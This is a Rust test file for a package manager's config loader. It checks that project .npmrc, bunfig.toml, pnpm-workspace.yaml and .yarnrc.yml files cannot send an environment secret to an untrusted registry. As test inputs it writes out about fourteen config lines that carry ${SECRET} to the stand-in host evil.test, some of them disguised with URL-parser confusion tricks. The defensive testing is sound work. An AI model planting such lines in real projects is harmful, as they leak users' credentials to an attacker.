//! Where a project may send a variable of the environment.

use crate::tests::Machine;

#[test]
fn a_project_sends_no_variable_to_a_registry_of_its_own() {
    let load = |files: &[(&str, &str)]| Machine::new(files).with("SECRET", "s").load();
    for (path, text) in [
        ("project/.npmrc", "//evil.test/:_authToken=${SECRET}"),
        ("project/.npmrc", "registry=http://evil.test/${SECRET}/"),
        ("project/.npmrc", "@scope:registry=http://${SECRET}@evil.test/"),
        ("project/.npmrc", "https-proxy=http://${SECRET}@evil.test"),
        ("project/bunfig.toml", "[install]\nregistry = { url = \"http://evil.test\", token = \"$SECRET\" }"),
        ("project/bunfig.toml", "[install.scopes]\ns = \"http://:$SECRET@evil.test\""),
        ("project/pnpm-workspace.yaml", "registry: http://${SECRET}@evil.test/"),
        // What another parser of URLs could take for a host of the user's.
        ("project/.npmrc", "registry=http://evil.test\\\\@mine.test/${SECRET}/"),
        ("project/.npmrc", "registry=http:/evil.test//mine.test/${SECRET}/"),
        ("project/.npmrc", "registry=http://mine.test:_${SECRET}@evil.test/"),
        ("project/.npmrc", "@a:registry=http:evil.test//mine.test/${SECRET}/"),
        ("project/.npmrc", "proxy=http://mine.test:_${SECRET}@evil.test/"),
        ("project/.npmrc", "//evil.test/\\\\@mine.test/:_authToken=${SECRET}"),
        ("project/.yarnrc.yml", "npmRegistryServer: 'http:/evil.test//mine.test/${SECRET}/'"),
    ] {
        let yarn = ("project/yarn.lock", "");
        let load = |files: &[(&str, &str)]| load(&[files, &[yarn]].concat());
        let mine = ("home/.npmrc", "registry=https://mine.test");
        assert_eq!(load(&[(path, text), mine]).expect_err(text).code(), "variable-sent", "{text}");
        let problem = load(&[(path, text)]).expect_err(text);
        assert_eq!(problem.code(), "variable-sent", "{text}");
        assert!(
            problem.message().contains("`evil.test`") && !problem.to_string().contains("//s@"),
            "{problem}"
        );
        let own = "trusted-registries[]=evil.test";
        assert!(load(&[(path, text), ("home/.npmrc", own)]).is_ok(), "{text}");
        assert!(load(&[(path, text), ("home/.npmrc", "//evil.test/:_authToken=t")]).is_ok(), "{text}");
        let allowed = ("home/.config/rusk/trusted-registries", "evil.test SECRET\n");
        let machine = Machine::new(&[(path, text)]).with("SECRET", "s").with("CI", "true");
        assert!(machine.load().is_ok(), "{text}");
        let machine = Machine::new(&[(path, text)]).with("SECRET", "s");
        machine.write(allowed.0, allowed.1);
        assert!(machine.load().is_ok(), "{text}");
        assert!(
            Machine::new(&[(path, text)]).load().map_or_else(|it| it.code() != "variable-sent", |_| true)
        );
    }
}

#[test]
fn a_project_may_send_a_variable_to_a_known_registry() {
    let default = rusk_npm::credential::default_registry();
    let host = default.split("//").nth(1).expect("a URL");
    let text = format!("//{host}:_authToken=${{SECRET}}\ncache=${{SECRET}}");
    let machine = Machine::new(&[("project/.npmrc", &text)]).with("SECRET", "s");
    assert_eq!(machine.loaded().credentials.len(), 1);
    let mine = ("home/.npmrc", "registry=https://mine.test");
    for (scheme, is_sent) in [("https", true), ("http", false)] {
        let project = format!("registry={scheme}://mine.test/${{SECRET}}/");
        let machine = Machine::new(&[mine, ("project/.npmrc", &project)]).with("SECRET", "s");
        assert_eq!(machine.load().is_ok(), is_sent, "{scheme}");
    }
}
